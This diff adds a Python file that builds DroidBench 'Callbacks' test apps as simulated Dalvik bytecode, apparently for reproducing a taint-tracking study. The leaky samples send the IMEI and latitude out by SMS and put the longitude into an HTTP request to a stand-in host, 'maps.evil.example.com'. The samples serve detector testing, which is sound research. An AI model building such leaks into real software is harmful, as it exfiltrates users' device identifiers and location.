@@ -1,0 +1,152 @@
+"""DroidBench category: Callbacks — leaks through framework-invoked handlers.
+
+The "framework" driving the callbacks is the app's main method here: it
+plays the event loop, invoking the registered handlers in order.  The two
+LocationLeak apps are the suite's float-typed flows: the latitude /
+longitude doubles convert to text through the ARM ABI soft-float helpers,
+so PIFT needs ``NI >= 10`` to catch them (the paper's §5.1 finding).
+"""
+
+from __future__ import annotations
+
+from typing import List
+
+from repro.android.device import AndroidDevice
+from repro.dalvik.builder import MethodBuilder
+from repro.dalvik.vm import Method
+from repro.apps.droidbench.common import (
+    BenchApp,
+    append_const,
+    builder_to_string,
+    concat_const_and,
+    fetch_imei,
+    fetch_location,
+    new_builder,
+    send_http,
+    send_sms_to,
+)
+
+
+def _button1(device: AndroidDevice) -> List[Method]:
+    """Button1 (leaky): the onClick handler reads the IMEI and sends it."""
+    on_click = MethodBuilder("Button1.onClick", registers=12, ins=1)
+    fetch_imei(on_click, 0)
+    concat_const_and(on_click, "clicked&id=", 0, 1, 2, 3)
+    send_sms_to(on_click, 1, 4, 5)
+    on_click.return_void()
+
+    main = MethodBuilder("Button1.main", registers=4)
+    main.const(0, 1)  # the View argument
+    main.invoke("Button1.onClick", 0)  # the framework dispatches the click
+    main.return_void()
+    return [on_click.build(), main.build()]
+
+
+def _location_leak1(device: AndroidDevice) -> List[Method]:
+    """LocationLeak1 (leaky): latitude -> string -> SMS.  Needs NI >= 10."""
+    handler = MethodBuilder("LocationLeak1.onLocationChanged", registers=14, ins=1)
+    # The Location argument arrives in v13.
+    handler.invoke("Location.getLatitude", 13)
+    handler.move_result_wide(0)  # v0/v1 = latitude bits
+    new_builder(handler, 2)
+    append_const(handler, 2, "lat=", 3)
+    handler.invoke("StringBuilder.appendDouble", 2, 0, 1)
+    builder_to_string(handler, 2, 4)
+    send_sms_to(handler, 4, 5, 6)
+    handler.return_void()
+
+    main = MethodBuilder("LocationLeak1.main", registers=6)
+    fetch_location(main, 0)
+    main.invoke("LocationLeak1.onLocationChanged", 0)
+    main.return_void()
+    return [handler.build(), main.build()]
+
+
+def _location_leak2(device: AndroidDevice) -> List[Method]:
+    """LocationLeak2 (leaky): longitude -> string -> HTTP.  Needs NI >= 10."""
+    handler = MethodBuilder("LocationLeak2.onLocationChanged", registers=14, ins=1)
+    handler.invoke("Location.getLongitude", 13)
+    handler.move_result_wide(0)
+    new_builder(handler, 2)
+    append_const(handler, 2, "http://maps.evil.example.com/?lon=", 3)
+    handler.invoke("StringBuilder.appendDouble", 2, 0, 1)
+    builder_to_string(handler, 2, 4)
+    send_http(handler, 4, 5, 6)
+    handler.return_void()
+
+    main = MethodBuilder("LocationLeak2.main", registers=6)
+    fetch_location(main, 0)
+    main.invoke("LocationLeak2.onLocationChanged", 0)
+    main.return_void()
+    return [handler.build(), main.build()]
+
+
+def _unregistered_callback(device: AndroidDevice) -> List[Method]:
+    """Unregistered (benign): a leaking handler exists but is never invoked."""
+    handler = MethodBuilder("Unregistered.onEvent", registers=10, ins=0)
+    fetch_imei(handler, 0)
+    send_sms_to(handler, 0, 1, 2)
+    handler.return_void()
+
+    main = MethodBuilder("Unregistered.main", registers=6)
+    main.const_string(0, "heartbeat")
+    send_sms_to(main, 0, 1, 2)
+    main.return_void()
+    return [handler.build(), main.build()]
+
+
+def _callback_ordering(device: AndroidDevice) -> List[Method]:
+    """CallbackOrdering (benign): a later callback overwrites the payload
+    field with clean data before the sending callback runs."""
+    device.define_class("CallbackOrdering/State", fields=[("payload", 4)])
+    on_start = MethodBuilder("CallbackOrdering.onStart", registers=8, ins=1)
+    fetch_imei(on_start, 0)
+    on_start.iput_object(0, 7, "CallbackOrdering/State.payload")
+    on_start.return_void()
+
+    on_low_memory = MethodBuilder("CallbackOrdering.onLowMemory", registers=8, ins=1)
+    on_low_memory.const_string(0, "cache dropped")
+    on_low_memory.iput_object(0, 7, "CallbackOrdering/State.payload")
+    on_low_memory.return_void()
+
+    on_stop = MethodBuilder("CallbackOrdering.onStop", registers=8, ins=1)
+    on_stop.iget_object(0, 7, "CallbackOrdering/State.payload")
+    send_sms_to(on_stop, 0, 1, 2)
+    on_stop.return_void()
+
+    main = MethodBuilder("CallbackOrdering.main", registers=6)
+    main.new_instance(0, "CallbackOrdering/State")
+    main.invoke("CallbackOrdering.onStart", 0)
+    main.invoke("CallbackOrdering.onLowMemory", 0)
+    main.invoke("CallbackOrdering.onStop", 0)
+    main.return_void()
+    return [on_start.build(), on_low_memory.build(), on_stop.build(), main.build()]
+
+
+APPS = [
+    BenchApp(
+        "Callbacks.Button1", "callbacks", True, _button1, "Button1.main",
+        "onClick handler reads the IMEI and sends it over SMS.", 2,
+    ),
+    BenchApp(
+        "Callbacks.LocationLeak1", "callbacks", True, _location_leak1,
+        "LocationLeak1.main",
+        "Latitude double formatted and texted; soft-float path needs NI>=10.",
+        10,
+    ),
+    BenchApp(
+        "Callbacks.LocationLeak2", "callbacks", True, _location_leak2,
+        "LocationLeak2.main",
+        "Longitude double in an HTTP query; soft-float path needs NI>=10.",
+        10,
+    ),
+    BenchApp(
+        "Callbacks.Unregistered", "callbacks", False, _unregistered_callback,
+        "Unregistered.main", "Leaking handler never invoked.",
+    ),
+    BenchApp(
+        "Callbacks.CallbackOrdering", "callbacks", False, _callback_ordering,
+        "CallbackOrdering.main",
+        "Clean data overwrites the field before the sending callback.",
+    ),
+]
